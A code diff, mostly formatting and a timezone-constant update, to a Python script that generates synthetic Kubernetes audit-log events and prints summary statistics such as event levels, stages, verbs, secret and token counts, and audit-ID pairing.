-            p = minute_prefix[m] = dt.datetime.fromtimestamp(m * 60, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:")
+            p = minute_prefix[m] = dt.datetime.fromtimestamp(m * 60, dt.UTC).strftime("%Y-%m-%dT%H:%M:")
         s, u = divmod(rem, 1_000_000)
         return "%s%02d.%06dZ" % (p, s, u)
 
@@ -849,7 +1382,7 @@ def generate(n: int, out: str, seed: int = 42) -> dict:
         return "%s-%s-4%s-a%s-%s" % (h[:8], h[8:12], h[13:16], h[17:20], h[20:])
 
     suffixes = ["".join(rng.choice(NAME_ALPHABET) for _ in range(5)) for _ in range(4096)]
-    pending: list = []           # heap of (line index due, seq, text) for delayed ResponseComplete lines
+    pending: list = []  # heap of (line index due, seq, text) for delayed ResponseComplete lines
     written = reserved = seq = rr_lines = 0
     nbytes = 0
     block: list[str] = []
@@ -889,12 +1422,19 @@ def generate(n: int, out: str, seed: int = 42) -> dict:
         f.write(chunk)
     os.replace(tmp, out)
     assert not pending and written == n
-    first = dt.datetime.fromtimestamp(start_us / 1e6, dt.timezone.utc)
-    last = dt.datetime.fromtimestamp(t / 1e6, dt.timezone.utc)
+    first = dt.datetime.fromtimestamp(start_us / 1e6, dt.UTC)
+    last = dt.datetime.fromtimestamp(t / 1e6, dt.UTC)
     dates = [(first.date() + dt.timedelta(days=i)).isoformat() for i in range((last.date() - first.date()).days + 1)]
-    return {"path": os.path.abspath(out), "lines": n, "bytes": nbytes, "seed": seed,
-            "request_received_lines": rr_lines, "unique_audit_ids": n - rr_lines,
-            "templates": len(templates), "dates": dates}
+    return {
+        "path": os.path.abspath(out),
+        "lines": n,
+        "bytes": nbytes,
+        "seed": seed,
+        "request_received_lines": rr_lines,
+        "unique_audit_ids": n - rr_lines,
+        "templates": len(templates),
+        "dates": dates,
+    }
 
 
 # --------------------------------------------------------------------------------------------
@@ -903,10 +1443,12 @@ def generate(n: int, out: str, seed: int = 42) -> dict:
 def stats(path: str) -> dict:
     try:
         import orjson
+
         loads = orjson.loads
     except ImportError:  # pragma: no cover
         loads = json.loads
     from collections import Counter
+
     n = bad = 0
     level, stage, size_by_level = Counter(), Counter(), Counter()
     body_kind, user_kind, dates, verbs = Counter(), Counter(), Counter(), Counter()
@@ -953,26 +1495,41 @@ def stats(path: str) -> dict:
                 n_exec += 1
     pct = lambda x: f"{100.0 * x / max(n, 1):.2f}%"
     print(f"file: {path}\nlines: {n:,}  invalid JSON: {bad}  bytes/line: {os.path.getsize(path) / max(n, 1):,.0f}")
-    print("level:      " + ", ".join(f"{k} {pct(v)} ({size_by_level[k] / v / 1000:.2f} KB/line)" for k, v in level.most_common()))
+    print(
+        "level:      "
+        + ", ".join(f"{k} {pct(v)} ({size_by_level[k] / v / 1000:.2f} KB/line)" for k, v in level.most_common())
+    )
     print("stage:      " + ", ".join(f"{k} {pct(v)}" for k, v in stage.most_common()))
     print("verb:       " + ", ".join(f"{k} {pct(v)}" for k, v in verbs.most_common()))
     print(f"requestObject: {pct(n_body)} of lines; JSON-patch arrays {pct(n_array)}; responseObject {pct(n_resp_obj)}")
     print("body kinds: " + ", ".join(f"{k} {v:,}" for k, v in body_kind.most_common()))
-    print(f"secret create with data: {n_secret_data:,}  TokenReview with spec.token: {n_token:,}  "
-          f"exec ?command=: {n_exec:,}  SA with pod-bound extra: {pct(n_extra_pod)}  impersonated: {n_imp:,}")
+    print(
+        f"secret create with data: {n_secret_data:,}  TokenReview with spec.token: {n_token:,}  "
+        f"exec ?command=: {n_exec:,}  SA with pod-bound extra: {pct(n_extra_pod)}  impersonated: {n_imp:,}"
+    )
     print("users:      " + ", ".join(f"{k} {pct(v)}" for k, v in user_kind.most_common()))
     print("dates:      " + ", ".join(f"{k} {v:,}" for k, v in sorted(dates.items())))
     orphans = len(rr_ids - rc_ids)
-    print(f"auditIDs:   {len(rr_ids | rc_ids):,} unique; {len(rr_ids):,} RequestReceived, "
-          f"{len(rr_ids & rc_ids):,} of them paired with a later stage, {orphans} orphans")
-    return {"lines": n, "invalid": bad, "levels": dict(level), "stages": dict(stage),
-            "request_object": n_body, "json_patch_arrays": n_array, "unique_audit_ids": len(rr_ids | rc_ids),
-            "dates": dict(sorted(dates.items()))}
+    print(
+        f"auditIDs:   {len(rr_ids | rc_ids):,} unique; {len(rr_ids):,} RequestReceived, "
+        f"{len(rr_ids & rc_ids):,} of them paired with a later stage, {orphans} orphans"
+    )
+    return {
+        "lines": n,
+        "invalid": bad,
+        "levels": dict(level),
+        "stages": dict(stage),
+        "request_object": n_body,
+        "json_patch_arrays": n_array,
+        "unique_audit_ids": len(rr_ids | rc_ids),
+        "dates": dict(sorted(dates.items())),
+    }
 
 
 def main(argv=None) -> int:
-    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
-                                 formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap = argparse.ArgumentParser(
+        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
+    )
     ap.add_argument("n", type=int, help="number of lines (events) to write")
     ap.add_argument("out", help="output .jsonl path (written via OUT.tmp + rename)")
     ap.add_argument("--seed", type=int, default=42)
@@ -983,9 +1540,12 @@ def main(argv=None) -> int:
     meta = generate(a.n, a.out, a.seed)
     el = time.perf_counter() - t0
     meta["gen_seconds"] = round(el, 2)
-    print(f"wrote {meta['lines']:,} lines, {meta['bytes']:,} bytes ({meta['bytes'] / max(a.n, 1):,.0f} B/line) "
-          f"to {a.out} in {el:.1f} s; {meta['request_received_lines']:,} RequestReceived lines, "
-          f"{meta['unique_audit_ids']:,} unique auditIDs, dates {meta['dates']}", file=sys.stderr)
+    print(
+        f"wrote {meta['lines']:,} lines, {meta['bytes']:,} bytes ({meta['bytes'] / max(a.n, 1):,.0f} B/line) "
+        f"to {a.out} in {el:.1f} s; {meta['request_received_lines']:,} RequestReceived lines, "
+        f"{meta['unique_audit_ids']:,} unique auditIDs, dates {meta['dates']}",
+        file=sys.stderr,
+    )
     if a.meta:
         with open(a.out + ".meta.json", "w") as f:
             json.dump(meta, f, indent=2)
